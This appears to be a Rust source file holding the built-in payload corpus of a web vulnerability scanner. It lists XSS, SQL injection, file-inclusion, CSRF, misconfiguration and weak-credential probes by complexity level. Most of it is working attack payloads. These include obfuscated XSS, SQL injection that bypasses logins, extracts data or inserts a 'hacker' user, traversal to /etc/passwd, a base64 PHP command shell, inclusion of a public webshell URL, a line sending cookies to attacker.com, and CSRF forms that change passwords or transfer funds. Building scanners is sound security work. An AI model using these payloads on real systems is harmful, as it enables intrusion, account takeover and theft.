//! Built-in payload corpus.
//!
//! Three payloads per complexity level, in definition order. Level 1 is the
//! basic set, level 5 the exotic one. CSRF stops at level 3.

/// One static corpus row.
#[derive(Debug, Clone, Copy)]
pub struct PayloadSpec {
    pub level: u8,
    pub value: &'static str,
    pub description: &'static str,
}

const fn p(level: u8, value: &'static str, description: &'static str) -> PayloadSpec {
    PayloadSpec { level, value, description }
}

pub const XSS: &[PayloadSpec] = &[
    p(1, r#"<script>alert('XSS')</script>"#, "Basic JavaScript Alert XSS"),
    p(1, r#"<img src=x onerror=alert('XSS')>"#, "Image onerror event XSS"),
    p(1, r#"<svg onload=alert('XSS')>"#, "SVG onload event XSS"),
    p(2, r#"<script>alert(String.fromCharCode(88,83,83))</script>"#, "Character code obfuscation XSS"),
    p(2, r#"<img src="javascript:alert('XSS')">"#, "JavaScript protocol in img src XSS"),
    p(2, r#"<div onmouseover="alert('XSS')">Hover me!</div>"#, "Mouse event XSS"),
    p(3, r#"<scr<script>ipt>alert('XSS')</scr</script>ipt>"#, "Script tag splitting XSS"),
    p(3, r#"<SCRIPT/SRC="data:;base64,YWxlcnQoJ1hTUycp"></SCRIPT>"#, "Base64 encoded payload XSS"),
    p(
        3,
        r#"javascript:/*--></title></style></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
        "Complex context breaking XSS",
    ),
    p(4, r#"<iframe src="javascript:alert(`XSS`)"></iframe>"#, "Iframe based XSS"),
    p(4, r#"'-prompt(1)-'"#, "SQL-like quoting bypass XSS"),
    p(
        4,
        r#"<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>"#,
        "XML injection with HTML5 mathML tags XSS",
    ),
    p(5, r#"<script>function x(x){return x};alert(x(`XSS`))</script>"#, "Function constructor XSS"),
    p(5, r#"<script>eval(atob('YWxlcnQoJ1hTUycp'))</script>"#, "Base64 eval XSS"),
    p(
        5,
        r#"<div id=""><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click me</a></div>"#,
        "HTML entity encoding XSS",
    ),
];

pub const SQL_INJECTION: &[PayloadSpec] = &[
    p(1, r#"' OR '1'='1"#, "Basic SQL authentication bypass"),
    p(1, r#"1' OR '1'='1' --"#, "Basic SQL injection with comment"),
    p(1, r#"' OR 1=1 --"#, "Basic numeric SQL injection with comment"),
    p(2, r#"' AND (SELECT 1 FROM non_existent_table) --"#, "Error-based injection with non-existent table"),
    p(2, r#"' AND 1=CONVERT(int, '~') --"#, "Error-based SQL Server conversion"),
    p(2, r#"' AND EXTRACTVALUE(1, CONCAT(0x7e, version())) --"#, "MySQL error-based extraction"),
    p(3, r#"' OR IF(1=1, SLEEP(2), 0) --"#, "MySQL time-based blind injection"),
    p(3, r#"' OR 1=1 AND (SELECT pg_sleep(2)) --"#, "PostgreSQL time-based blind injection"),
    p(3, r#"'; WAITFOR DELAY '0:0:2' --"#, "SQL Server time-based blind injection"),
    p(4, r#"' UNION SELECT NULL, NULL, NULL --"#, "UNION-based column enumeration"),
    p(4, r#"' UNION SELECT 1, 2, database() --"#, "UNION-based MySQL database name extraction"),
    p(
        4,
        r#"' UNION SELECT 1, table_name, 3 FROM information_schema.tables --"#,
        "UNION-based table names extraction",
    ),
    p(
        5,
        r#"'; INSERT INTO users (username, password) VALUES ('hacker', 'password'); --"#,
        "Stacked queries with INSERT statement",
    ),
    p(
        5,
        r#"' OR EXISTS(SELECT 1 FROM users WHERE username='admin' AND substring(password,1,1)='a') --"#,
        "Boolean-based blind password extraction",
    ),
    p(
        5,
        r#"';DECLARE @q NVARCHAR(800);SET @q=CAST(0x440045004300 AS NVARCHAR(800));EXEC(@q);--"#,
        "SQL Server hexadecimal encoded execution",
    ),
];

pub const FILE_INCLUSION: &[PayloadSpec] = &[
    p(1, "../../../../../etc/passwd", "Basic path traversal to /etc/passwd"),
    p(1, r"..\..\..\..\..\windows\win.ini", "Windows path traversal to win.ini"),
    p(1, "/etc/passwd", "Direct path to system file"),
    p(2, "....//....//....//....//....//etc/passwd", "Path traversal with nested traversal sequences"),
    p(2, "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "URL encoded path traversal"),
    p(2, "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "Double URL encoded path traversal"),
    p(3, "../../../../../etc/passwd%00", "Null byte to bypass extension check"),
    p(3, "php://filter/convert.base64-encode/resource=config.php", "PHP filter wrapper for file disclosure"),
    p(
        3,
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ZWNobyAnU2hlbGwgZG9uZSAhJzsgPz4=",
        "Data wrapper with base64 encoded PHP code",
    ),
    p(4, "http://example.com/malicious.txt", "Basic remote file inclusion"),
    p(
        4,
        "https://raw.githubusercontent.com/tennc/webshell/master/php/PHPshell/phpkit.php",
        "RFI pointing to a public webshell",
    ),
    p(4, "ftp://example.com/pub/backdoor.php", "FTP protocol remote inclusion"),
    p(5, "expect://ls", "Expect wrapper for command execution"),
    p(5, "zip://shell.jpg%23payload.php", "Zip wrapper for archived file inclusion"),
    p(5, "phar://pharfile.phar/payload.txt", "Phar wrapper exploitation"),
];

pub const CSRF: &[PayloadSpec] = &[
    p(
        1,
        r#"<img src="x" onerror="this.src='http://attacker.com/log?cookie='+document.cookie">"#,
        "Basic cookie stealing via image",
    ),
    p(
        1,
        r#"<form id="csrf-form" action="http://target.com/change_password" method="POST"><input type="hidden" name="new_password" value="hacked"></form><script>document.getElementById("csrf-form").submit();</script>"#,
        "Automatic form submission CSRF",
    ),
    p(1, "Origin: null", "Missing Origin header check"),
    p(2, "Referer: https://attacker.com", "Spoofed Referer header"),
    p(2, "X-CSRF-Token: invalid_token", "Invalid CSRF token testing"),
    p(2, "X-Requested-With: NOT_XMLHttpRequest", "Modified X-Requested-With header"),
    p(
        3,
        r#"<script>fetch('http://target.com/api/transfer', {method: 'POST', credentials: 'include', body: JSON.stringify({amount: 1000, to: 'attacker'})});</script>"#,
        "CSRF via fetch API with JSON payload",
    ),
    p(
        3,
        r#"<iframe style="display:none" name="csrf-frame"></iframe><form target="csrf-frame" action="http://target.com/api/action" method="POST"><input type="hidden" name="action" value="delete_account"></form><script>document.forms[0].submit();</script>"#,
        "Hidden iframe CSRF for silent submission",
    ),
    p(
        3,
        r#"<script>var xhr = new XMLHttpRequest(); xhr.open('POST', 'http://target.com/api/action', true); xhr.withCredentials = true; xhr.setRequestHeader('Content-Type', 'application/json'); xhr.send('{"action":"update_email","email":"attacker@evil.com"}');</script>"#,
        "XMLHttpRequest CSRF with JSON content type",
    ),
];

pub const MISCONFIGURATION: &[PayloadSpec] = &[
    p(1, "X-XSS-Protection", "Missing or misconfigured XSS protection header"),
    p(1, "X-Content-Type-Options", "Missing content type options header"),
    p(1, "X-Frame-Options", "Missing or weak framing protection"),
    p(2, "Access-Control-Allow-Origin: *", "Overly permissive CORS policy"),
    p(2, "Content-Security-Policy", "Missing or weak content security policy"),
    p(2, "Strict-Transport-Security", "Missing HSTS header"),
    p(3, "/.git/config", "Exposed Git repository"),
    p(3, "/.env", "Exposed environment file"),
    p(3, "/wp-config.php.bak", "Backup configuration files"),
    p(4, "/phpinfo.php", "Exposed PHP information"),
    p(4, "/server-status", "Exposed server status page"),
    p(4, "/?debug=true", "Debug mode enabled"),
    p(5, "/actuator/health", "Exposed Spring Boot actuators"),
    p(5, "/_cat/indices", "Exposed Elasticsearch API"),
    p(5, "/console/", "Exposed web console"),
];

pub const AUTH_WEAKNESS: &[PayloadSpec] = &[
    p(1, "admin:admin", "Default admin credentials"),
    p(1, "admin:password", "Weak admin password"),
    p(1, "user:password", "Generic weak credentials"),
    p(2, BRUTEFORCE_MARKER, "Testing for brute force protection"),
    p(2, "LOCKOUT_TEST", "Testing for account lockout"),
    p(2, "RATE_LIMIT_TEST", "Testing for rate limiting"),
    p(3, "PASSWORD_LENGTH", "Testing minimum password length requirements"),
    p(3, "PASSWORD_COMPLEXITY", "Testing password complexity requirements"),
    p(3, "PASSWORD_HISTORY", "Testing password history enforcement"),
    p(4, "SESSION_FIXATION", "Testing for session fixation vulnerability"),
    p(4, "SESSION_TIMEOUT", "Testing session timeout implementation"),
    p(4, "SESSION_INVALIDATION", "Testing session invalidation after logout"),
    p(5, "MFA_BYPASS", "Testing for MFA bypass vulnerabilities"),
    p(5, "PASSWORD_RESET", "Testing password reset functionality"),
    p(5, "JWT_NONE_ALG", "Testing JWT with 'none' algorithm vulnerability"),
];

/// Corpus marker that unlocks the brute-force protection probe.
pub const BRUTEFORCE_MARKER: &str = "BRUTEFORCE_TEST";
